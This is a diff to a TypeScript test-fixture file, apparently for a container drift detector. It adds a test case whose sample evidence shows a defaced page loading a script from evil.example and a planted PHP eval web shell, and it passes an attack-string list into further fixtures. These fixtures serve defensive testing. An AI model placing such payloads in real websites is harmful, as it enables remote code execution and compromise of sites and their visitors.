@@ -16,6 +16,7 @@ export const cases: ReadonlyMap<string, () => Account> = new Map([
   ['pass-with-refused-writes', passesWithRefusedWrites],
   ['drift', drifts],
   ['drift-in-a-volume', driftsInVolume],
+  ['drift-with-evidence', driftsWithEvidence],
   ['drift-audit', () => ({ ...drifts(), mode: 'audit' as const })],
   ['drift-in-a-thousand-folders', driftsInManyFolders],
   ['failed-exited', exits],
@@ -177,6 +178,35 @@ function drifts(): Account {
   })
 }
 
+/** What changed was kept, but for what is too large; and the container was committed. */
+function driftsWithEvidence(): Account {
+  const account = driftsInVolume()
+  const leftOut = new Map([['file-limit', 2]] as const)
+  const cut = makeFinding('evidence-cut', { ...made.plan.evidence, leftOut })
+  const page = [
+    '--- before/var/www/html/index.html',
+    '+++ after/var/www/html/index.html',
+    '@@ -1,2 +1,2 @@',
+    ' <h1>Shop</h1>',
+    '-<p>Welcome',
+    '+<p>Hacked <script src="https://evil.example/x.js"></script>',
+    ''
+  ]
+  const shell = Array.from({ length: 60 }, (_, n) => `+<?php eval($_GET[${n}]); ?>`)
+  return {
+    ...account,
+    judgement: withFindings(account.judgement, [cut]),
+    evidence: {
+      ...{ sha256: digest('e'), files: 9, bytes: 51_200, leftOut },
+      image: 'zero-drift-evidence:0123456789abcdef0123456789abcdef',
+      diffs: [
+        { path: '/var/www/html/index.html', text: page.join('\n') },
+        { path: '/var/www/html/shell.php', text: `--- /dev/null\n${shell.join('\n')}\n` }
+      ]
+    }
+  }
+}
+
 function driftsInManyFolders(): Account {
   const folders = Array.from({ length: 1000 }, (_, n) => `/srv/${n % 40}/${n}`)
   return checked({ ...made.writable, smoke }, tested, {
@@ -290,7 +320,12 @@ export function isHostile(): Account {
       refusals: ATTACKS.map((message) => ({ message, path: `/r/${message}` }))
     }
   )
-  return explainedBy(hostile, { ...account, log: ATTACKS.join('\n'), annotateFile: undefined })
+  const evidence = {
+    ...{ sha256: digest('e'), files: 1, bytes: 1, leftOut: new Map(), image: text },
+    diffs: ATTACKS.map((one) => ({ path: `/x/${one}`, text: ` ${one}\n${one}\n${text}\n` }))
+  }
+  const further = { log: ATTACKS.join('\n'), annotateFile: undefined, evidence }
+  return explainedBy(hostile, { ...account, ...further })
 }
 
 export const ATTACKS: readonly string[] = [
